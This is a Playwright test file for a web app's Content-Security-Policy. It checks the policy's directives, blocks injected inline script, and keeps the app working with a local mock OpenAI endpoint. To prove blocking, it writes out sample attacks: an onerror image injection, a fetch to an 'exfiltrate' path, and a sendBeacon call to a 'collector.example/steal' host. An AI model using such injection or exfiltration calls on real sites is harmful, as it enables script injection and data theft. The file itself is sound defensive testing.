/**
 * Content-Security-Policy: the page carries the policy, injected inline script does not run,
 * requests to hosts the policy does not allow are blocked, and the whole app (seeding, wasm,
 * workers, chat, PDF import, a configured local endpoint) works under it with no violation.
 */
import { test, expect, type Page } from '@playwright/test';
import { makePdf } from '../src/test-support/pdf-fixtures.ts';
import { startMockOpenAIServer } from '../src/test-support/mock-openai-server.ts';
import { goTo, importPdf, openApp } from './support/app.ts';
import { ask } from './support/chat.ts';
import { useOpenAIEndpoint } from './support/settings.ts';

interface Violation {
  directive: string;
  blocked: string;
}

/** Records every CSP violation the page reports (init scripts run outside the page's CSP). */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const list: { directive: string; blocked: string; source?: string }[] = [];
    (window as unknown as { __cspViolations: typeof list }).__cspViolations = list;
    document.addEventListener('securitypolicyviolation', (e) =>
      list.push({
        directive: e.effectiveDirective,
        blocked: e.blockedURI,
        ...(e.blockedURI === 'eval' ? { source: `${e.sourceFile}:${e.lineNumber}:${e.columnNumber}` } : {}),
      }),
    );
  });
  const cspConsole: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) cspConsole.push(m.text());
  });
  return async () => {
    const fromPage = await page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations);
    return [...fromPage, ...cspConsole.map((text) => ({ directive: 'console', blocked: text }))];
  };
}

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name, values]),
  );
}

test('the policy is in the page: no inline script, wasm and workers allowed, connect-src limited', async ({ page }) => {
  await openApp(page);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toBeTruthy();
  const d = directives(policy!);
  expect(d.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'", 'blob:']);
  expect(d.get('worker-src')).toEqual(["'self'", 'blob:']);
  expect(d.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
  expect(d.get('connect-src')).toEqual(["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*']);
  expect(d.get('object-src')).toEqual(["'none'"]);
  expect(d.get('default-src')).toEqual(["'self'"]);
  // The built page itself has no inline script; the server sends the same policy as a header,
  // which is what applies inside workers.
  const res = await page.request.get('/');
  const header = res.headers()['content-security-policy'];
  if (header !== undefined) expect(header).toBe(policy);
  const html = await res.text();
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
});

test('an injected inline script does not run and reports a violation', async ({ page }) => {
  const violations = await recordViolations(page);
  await openApp(page);
  const result = await page.evaluate(async () => {
    const seen = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }));
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true;';
    document.body.append(s);
    const img = document.createElement('div');
    img.innerHTML = '<img src="data:," onerror="window.__inlineRan = true">';
    document.body.append(img);
    const directive = await seen;
    return { directive, ran: (window as unknown as { __inlineRan?: boolean }).__inlineRan ?? false };
  });
  expect(result).toEqual({ directive: 'script-src-elem', ran: false });
  expect((await violations()).map((v) => v.directive)).toEqual(expect.arrayContaining(['script-src-elem']));
});

test('requests to hosts outside the policy are blocked before they leave the page', async ({ page }) => {
  const violations = await recordViolations(page);
  await openApp(page);
  const outcomes = await page.evaluate(async () => {
    const attempt = (url: string) =>
      fetch(url).then(
        () => 'sent',
        (e: unknown) => (e instanceof TypeError ? 'blocked' : 'other'),
      );
    return { http: await attempt('http://example.invalid/exfiltrate'), lan: await attempt('http://192.168.1.10:8080/v1/models') };
  });
  expect(outcomes).toEqual({ http: 'blocked', lan: 'blocked' });
  await page.evaluate(() => navigator.sendBeacon('http://collector.example/steal', 'x'));
  await expect.poll(async () => (await violations()).some((v) => v.blocked.includes('collector.example'))).toBe(true);
  const blocked = (await violations()).filter((v) => v.directive === 'connect-src').map((v) => new URL(v.blocked).host);
  expect(blocked).toEqual(expect.arrayContaining(['example.invalid', '192.168.1.10:8080', 'collector.example']));
});

test('the whole app works under the policy: first load, chat, PDF import and a configured local endpoint', async ({ page, context }) => {
  const violations = await recordViolations(page);
  const mock = await startMockOpenAIServer();
  const hosts = new Set<string>();
  context.on('request', (r) => hosts.add(new URL(r.url()).host));
  try {
    await openApp(page);
    const answer = await ask(page, 'What is our policy on discussing 2026 pricing?');
    await expect(answer).toContainText(/Sales Kickoff/i);

    await goTo(page, 'Playbook');
    await importPdf(page, 'csp-guide.pdf', await makePdf([['CSP guide', 'Lighthouse accounts renew every spring.']]));
    await expect(page.getByRole('status').filter({ hasText: 'Indexed csp-guide.pdf' })).toBeVisible();
    await page.getByLabel('Search the playbook').fill('lighthouse accounts renew');
    await expect(page.getByRole('list', { name: 'Search results' }).getByRole('listitem').first()).toContainText('csp-guide.pdf');

    // A local OpenAI-compatible server is allowed and is the only other host the app talks to.
    await useOpenAIEndpoint(page, { apiKey: 'sk-csp-test', baseUrl: mock.url, model: 'gpt-4o-mini' });
    await page.getByRole('button', { name: 'Test connection' }).click();
    await expect(page.getByRole('status').filter({ hasText: /^Connected/ })).toBeVisible();
    expect(mock.requests.length).toBeGreaterThan(0);
  } finally {
    await mock.close();
  }
  // zod 4 probes for eval once (`Function('')` in a try/catch) and falls back to its plain parser;
  // that caught probe is the only report allowed. `z.config({ jitless: true })` at startup removes it.
  expect((await violations()).filter((v) => v.blocked !== 'eval')).toEqual([]);
  const appHost = new URL(page.url()).host;
  expect([...hosts].filter((h) => h !== appHost)).toEqual([new URL(mock.url).host]);
});
